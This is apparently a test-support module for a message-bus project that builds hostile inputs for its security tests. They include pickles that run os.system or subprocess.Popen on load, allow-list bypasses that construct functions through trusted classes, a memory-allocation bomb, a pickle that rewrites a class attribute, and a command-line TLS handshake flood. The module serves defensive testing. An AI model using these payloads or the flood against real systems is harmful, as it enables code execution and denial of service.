"""What attackers send: pickles that run a command when loaded, TLS hellos from strangers."""

from __future__ import annotations

import contextlib
import os
import pickle
import shlex
import socket
import ssl
import sys
import time
from dataclasses import dataclass
from typing import Any

from aaabus import Agent, AgentId, Notification
from aaabus.model.ids import FIRST_USER_STAMP
from aaabus.model.notifications import AgentCreateRequest


class Planted(Notification):
    """Pickles as ``os.system("touch <marker>")``: loading it anywhere creates ``marker``.

    The class itself lives in a trusted test module; what its pickle names is ``posix.system``,
    which no server trusts, so a server refusing it never creates the marker.
    """

    def __init__(self, marker: str | os.PathLike[str]) -> None:
        self.marker = os.fspath(marker)

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.system, (f"touch {shlex.quote(self.marker)}",))


def planted_pickle(marker: str | os.PathLike[str]) -> bytes:
    """The bytes of a :class:`Planted` notification."""
    return pickle.dumps(Planted(marker))


@dataclass
class Inject(Notification):
    """Asks an :class:`Injector` to aim a :class:`Planted` pickle at ``server``."""

    server: int
    marker: str
    via_factory: bool = False


class Injector(Agent):
    """A compromised peer's agent: its frames carry :class:`Planted` pickles to another server.

    Whatever comes back (the victim's error report, the factory's reply) is forwarded to the
    server's listeners (``#s.s.0``) for the test to read.
    """

    def react(self, sender: AgentId, note: Notification) -> None:
        if isinstance(note, Inject):
            factory = AgentId.factory(note.server)
            if note.via_factory:
                agent_id = AgentId(self.id.server, note.server, FIRST_USER_STAMP + 99)
                payload = planted_pickle(note.marker)
                self.send_to(factory, AgentCreateRequest(agent_id, payload, reply=True))
            else:
                self.send_to(factory, Planted(note.marker))
        else:
            self.send_to(AgentId.server_of(self.id.server), note)


def client_hello() -> bytes:
    """The first flight of a TLS client (a ClientHello), made once and replayed by a flood.

    Each copy makes the server run its expensive part (key exchange, signature) before it can
    learn that the client has no certificate, at almost no cost to the sender.
    """
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_side=False)
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    return outgoing.read()


def tls_flood(host: str, port: int, seconds: float, connections: int = 8) -> int:
    """Send ClientHellos to ``host:port`` for ``seconds``, ``connections`` at a time; each
    connection waits for the server's answer (its handshake work done), then hangs up.
    Returns how many handshakes the server answered."""
    hello = client_hello()
    answered = 0
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        socks = []
        for _ in range(connections):
            with contextlib.suppress(OSError):
                sock = socket.create_connection((host, port), timeout=2)
                sock.sendall(hello)
                socks.append(sock)
        for sock in socks:
            with contextlib.suppress(OSError):
                if sock.recv(65536):
                    answered += 1
            sock.close()
    return answered


if __name__ == "__main__":
    # python -m tests.support.hostile tls-flood HOST PORT SECONDS: prints the answered count.
    _, what, host_arg, port_arg, seconds_arg = sys.argv
    assert what == "tls-flood", what
    print(tls_flood(host_arg, int(port_arg), float(seconds_arg)), flush=True)


# -- payloads of the attack review (issue 30): each runs code or hurts its loader when
# unpickled by the allow-list loader the bus had; each is bytes, built here opcode by opcode.

_PROTO = b"\x80\x03"


def _global(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _push(value: Any) -> bytes:
    """The opcodes that push ``value`` (plain data) onto the unpickler's stack."""
    body = pickle.dumps(value, 3)
    return body[2:-1]  # without PROTO and STOP


def walk_pickle(marker: str | os.PathLike[str]) -> bytes:
    """Builds and calls a function of its own through a dotted walk from a trusted class:
    ``PersistentMapping.__init__.__class__`` is ``FunctionType``, ``...__code__.__class__``
    ``CodeType``; the function touches ``marker``."""
    source = f"def f():\n    __import__('pathlib').Path({os.fspath(marker)!r}).touch()\n"
    space: dict[str, Any] = {}
    exec(source, space)
    c = space["f"].__code__
    args = (c.co_argcount, c.co_posonlyargcount, c.co_kwonlyargcount, c.co_nlocals,
            c.co_stacksize, c.co_flags, c.co_code, c.co_consts, c.co_names, c.co_varnames,
            c.co_filename, c.co_name, c.co_qualname, c.co_firstlineno, c.co_linetable,
            c.co_exceptiontable, c.co_freevars, c.co_cellvars)  # fmt: skip
    return (
        _PROTO
        + _global("persistent.mapping", "PersistentMapping.__init__.__class__")
        + _global("persistent.mapping", "PersistentMapping.__init__.__code__.__class__")
        + _push(args)
        + b"R"  # CodeType(*args)
        + b"}"  # globals: {}
        + b"\x86R"  # FunctionType(code, {})
        + b")R."  # ... called
    )


def module_walk_pickle(marker: str | os.PathLike[str]) -> bytes:
    """``subprocess.Popen(["touch", marker])``, reached through a module of a trusted package
    (``tests.support``) that happens to import subprocess (``tests.support.tls``)."""
    command = _push((["touch", os.fspath(marker)],))
    return _PROTO + _global("tests.support.tls", "subprocess.Popen") + command + b"R."


def main_module_pickle() -> bytes:
    """Names a global of ``aaabus.__main__``: importing that module runs the command line."""
    return _PROTO + _global("aaabus.__main__", "main") + b"."


def allocation_bomb(size: int = 2_000_000_000) -> bytes:
    """``bytearray(size)``: a few dozen bytes that ask for ``size`` bytes of memory."""
    return _PROTO + _global("builtins", "bytearray") + _push((size,)) + b"R."


def class_build_pickle() -> bytes:
    """BUILD on the class ``AgentId`` with state ``(None, {"parse": int})``: it rewrites the
    class attribute ``AgentId.parse`` for the whole process."""
    state = b"N}" + _push("parse") + _global("builtins", "int") + b"s\x86"
    return _PROTO + _global("aaabus.model.ids", "AgentId") + state + b"b."
